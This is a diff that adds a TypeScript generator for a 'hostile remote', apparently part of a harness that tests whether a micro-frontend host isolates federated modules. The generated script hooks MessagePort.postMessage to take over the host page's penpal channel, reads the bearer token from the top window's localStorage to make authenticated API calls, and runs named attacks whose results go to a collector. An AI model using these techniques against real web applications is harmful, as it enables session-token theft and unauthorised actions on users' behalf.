@@ -1,0 +1,108 @@
+import type { Attack, CallOutcome, Means } from './attack';
+
+export interface CodeSettings {
+  readonly container: string;
+  readonly collector: string;
+  readonly connectOrigin: string;
+  readonly stunPort: number;
+}
+
+/** Runs in a browser, as the entry of the remote: a federation container that exposes one component. */
+function startContainer(
+  { container, collector, ...servers }: CodeSettings,
+  attacks: Readonly<Record<string, (means: Means) => unknown>>,
+): void {
+  const TIME_LIMIT_MS = 2_500;
+
+  // The channel to the page uses one port, which its next message gives away.
+  const { postMessage } = MessagePort.prototype;
+  const seenPort = new Promise<MessagePort>((resolve) => {
+    MessagePort.prototype.postMessage = function post(this: MessagePort, ...args: unknown[]) {
+      if ((args[0] as { namespace?: string } | undefined)?.namespace === 'penpal') resolve(this);
+      Reflect.apply(postMessage, this, args);
+    };
+  });
+  const callHost: Means['callHost'] = async (methodPath, ...args) => {
+    document.title += '.';
+    const port = await seenPort;
+    const id = crypto.randomUUID();
+    return new Promise((resolve) => {
+      port.addEventListener('message', ({ data }) => {
+        if (data?.callId === id) resolve(data.value);
+      });
+      Reflect.apply(postMessage, port, [{ namespace: 'penpal', type: 'CALL', id, methodPath, args }]);
+    });
+  };
+
+  const callDirectly = async (method: string, url: string, headers: object, body: unknown) => {
+    const storage = Reflect.get(window.top ?? window, 'localStorage') as Storage;
+    const response = await fetch(url, {
+      method,
+      headers: {
+        ...{ authorization: `Bearer ${storage.getItem('token')}`, 'content-type': 'application/json' },
+        ...headers,
+      },
+      ...(body !== undefined && { body: JSON.stringify(body) }),
+    });
+    return { status: response.status, body: await response.json().catch(() => null) };
+  };
+  const callApi: Means['callApi'] = async (method, url, more = {}) => {
+    const { body, headers = {} } = more as { body?: unknown; headers?: object };
+    try {
+      const direct = await callDirectly(method, url, headers, body);
+      if (direct.status < 400) return direct;
+    } catch {
+      // The next way is tried.
+    }
+    return (await callHost(['send'], { method, url, headers, ...more })) as CallOutcome;
+  };
+
+  const report = (outcome: object) => console.info(`narthex-attack ${JSON.stringify(outcome)}`);
+  const runOne = async (name: string) => {
+    let result: unknown;
+    try {
+      const means = { ...servers, url: `${collector}/hit/${name}`, callHost, callApi };
+      const limit = new Promise((resolve) => setTimeout(resolve, TIME_LIMIT_MS, 'no result in time'));
+      result = await Promise.race([attacks[name]?.(means), limit]);
+    } catch (cause) {
+      result = String(cause);
+    }
+    report({ name, hasSucceeded: result === true, result: JSON.stringify(result)?.slice(0, 300) });
+  };
+  let hasStarted = false;
+  const start = async (search: string) => {
+    if (hasStarted) return;
+    hasStarted = true;
+    await Promise.all((new URLSearchParams(search).get('run')?.split(',') ?? []).map(runOne));
+    report({ name: 'done' });
+  };
+
+  type Shared = Readonly<Record<string, Readonly<Record<string, { get: () => Promise<() => unknown> }>>>>;
+  type Package = Readonly<Record<string, (...args: unknown[]) => unknown>>;
+  let scope: Shared = {};
+  const read = async (name: string) => {
+    const [version] = Object.values(scope[name] ?? {});
+    return (await version?.get())?.() as Package;
+  };
+  Reflect.set(window, container, {
+    init(shared: Shared) {
+      scope = shared;
+      Reflect.set(window, 'narthexShared', shared);
+    },
+    async get() {
+      const [react, router] = [await read('react'), await read('react-router-dom')];
+      const Hostile = () => {
+        const { search } = router['useLocation']?.() as Location;
+        react['useEffect']?.(() => void start(search), []);
+        return react['createElement']?.('p', { id: 'hostile' }, 'Hostile remote');
+      };
+      return () => ({ __esModule: true, default: Hostile });
+    },
+  });
+}
+
+/** Returns the text of the only script of the remote. */
+export function writeHostileCode(attacks: readonly Attack[], settings: CodeSettings): string {
+  const table = attacks.map(({ name, run }) => `${JSON.stringify(name)}: ${String(run)}`);
+  return `(${String(startContainer)})(${JSON.stringify(settings)}, {\n${table.join(',\n')}\n});`;
+}
